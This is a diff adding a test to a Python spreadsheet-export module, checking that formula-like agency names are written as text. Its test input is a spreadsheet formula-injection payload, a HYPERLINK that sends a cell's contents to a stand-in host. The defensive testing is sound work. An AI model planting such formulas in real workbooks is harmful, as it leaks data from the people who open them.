@@ -41,6 +41,18 @@ def test_the_form_has_a_row_per_agency_named_and_the_totals():
     assert sheet.cell(row=12, column=2).font.name == "Times New Roman"
 
 
+def test_a_name_that_looks_like_a_formula_is_written_as_text():
+    """Names are typed by people: in a workbook they must never become formulas."""
+    answer = {"agency": None, "from": "2022-01-01", "to": "2022-12-31", **stats(1, 1, 0),
+              "by_agency": {"STP": stats(1, 1, 0)}}
+    name = '=HYPERLINK("https://example.invalid/?d="&C12,"Sở Tư pháp")'
+    book = load_workbook(BytesIO(ii06a_workbook(answer, "=1+1", {"STP": name})))
+    cells = [cell for row in book.active.iter_rows() for cell in row
+             if isinstance(cell.value, str) and cell.value.startswith("=")]
+    assert [cell.value for cell in cells if cell.column == 2] == [name]
+    assert {cell.data_type for cell in cells} == {"s"}  # "f" would be a formula
+
+
 def test_the_workbook_is_asked_for_by_its_media_type():
     assert wants_xlsx(XLSX)
     assert wants_xlsx(f"application/json;q=0.5, {XLSX}")
